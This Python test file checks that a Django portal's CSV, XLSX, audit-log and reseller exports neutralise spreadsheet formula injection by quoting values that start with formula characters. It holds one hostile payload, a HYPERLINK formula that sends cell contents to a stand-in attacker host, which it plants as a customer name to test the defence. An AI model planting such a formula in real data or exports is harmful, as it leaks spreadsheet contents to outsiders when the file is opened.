"""CSV injection: a customer named like a spreadsheet formula must never become one in an export.

Every export the console writes (12+ report exports in CSV and XLSX, the billing export, the audit log
CSV, the reseller batch templates) goes through `portal.core.exports`; this test opens each of them
with a customer named `=HYPERLINK(...)` and checks the name arrives as text, quoted, never as a formula.
"""

import csv
import io
from decimal import Decimal
from urllib.parse import quote

import pytest
from django.utils import timezone
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from orders.models import Order
from portal.audit.services import audit_record
from portal.core.exports import csv_cell, neutralise, xlsx_cell
from tests.reports.conftest import billing_world  # noqa: F401 (a fixture)
from tests.reports.test_report_reconciliation import invoiced_world  # noqa: F401 (a fixture)

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
SAFE = "'" + EVIL
Q1 = "preset=custom&first_month=2024-01&last_month=2024-03"
FEBRUARY = "month=2024-02"

#: Every report export that lists customers or what users did, by URL (format appended below).
REPORT_EXPORTS = [
    "/reports/usage/export/?day=2024-02-01",
    "/reports/usage/export/?view=customers&day=2024-02-01",
    "/reports/operations/export/?",
    "/reports/activity/export/?period=custom&start=2020-01-01&end=2099-12-31",
    f"/reports/activity/export/?period=custom&start=2020-01-01&end=2099-12-31&actor={quote(EVIL)}",
    "/reports/cost/export/?period=custom&start=2024-01-01&end=2024-03-31",
    "/reports/custom/export/?dimension=customer&measure=revenue",
    "/reports/custom/export/?dimension=customer&measure=subscriptions",
    f"/reports/billing/export/?{Q1}",
    f"/reports/reconciliation/export/?{FEBRUARY}",
]


@pytest.fixture
def evil_world(invoiced_world, partner_alpha):  # noqa: F811 (the imported fixture)
    with schema_context(partner_alpha.schema_name):
        customer = invoiced_world.ours
        customer.name = EVIL
        customer.save(update_fields=["name"])
        audit_record(actor=EVIL, action="customer.update", target=customer, target_label=EVIL, message=EVIL)
        Order.objects.create(
            customer_tenant=invoiced_world.ours_subscription.customer_tenant, account=invoiced_world.account
        )
    return invoiced_world


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_csv_safe(cells: list[str], url: str) -> None:
    assert SAFE in cells, f"{url}: the customer's name is not in the export"
    assert EVIL not in cells, url
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), (url, cell)


@pytest.mark.parametrize("url", REPORT_EXPORTS)
def test_every_report_csv_export_neutralises_a_formula(evil_world, alpha_admin_client, url):
    response = alpha_admin_client.get(url + "&format=csv")
    assert response.status_code == 200
    _assert_csv_safe(_csv_cells(response), url)


@pytest.mark.parametrize("url", REPORT_EXPORTS)
def test_every_report_xlsx_export_stores_text_never_a_formula(evil_world, alpha_admin_client, url):
    response = alpha_admin_client.get(url + "&format=xlsx")
    assert response.status_code == 200
    cells = _xlsx_cells(response)
    values = [cell.value for cell in cells]
    assert SAFE in values, f"{url}: the customer's name is not in the export"
    assert EVIL not in values
    assert all(cell.data_type != "f" for cell in cells), url
    # numbers stay numbers: a spreadsheet can still sum the amounts (one user's event list has none)
    assert "actor=" in url or any(cell.data_type == "n" and cell.value not in (None, 0) for cell in cells), url


def test_the_audit_log_csv_neutralises_a_formula(evil_world, alpha_admin_client):
    response = alpha_admin_client.get("/settings/audit-logs/export.csv")
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert SAFE in cells and EVIL not in cells


def test_the_reseller_batch_templates_are_written_by_the_helper():
    from resellers.batch import batch_template_csv, batch_template_xlsx

    assert batch_template_csv().decode("utf-8-sig").startswith("Organisation name,Email")
    workbook = load_workbook(io.BytesIO(batch_template_xlsx()))
    assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Contoso", "Contoso"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_is_quoted(value, expected):
    assert neutralise(value) == expected
    assert csv_cell(value) == expected
    assert xlsx_cell(value) == expected


def test_numbers_and_dates_stay_numbers_and_dates():
    assert csv_cell(Decimal("-5.00")) == "-5.00"
    assert csv_cell(Decimal("1E+1")) == "10"
    assert csv_cell(-3) == "-3"
    assert xlsx_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert xlsx_cell(-3) == -3
    now = timezone.now()
    assert xlsx_cell(now).tzinfo is None
    assert xlsx_cell(None) is None
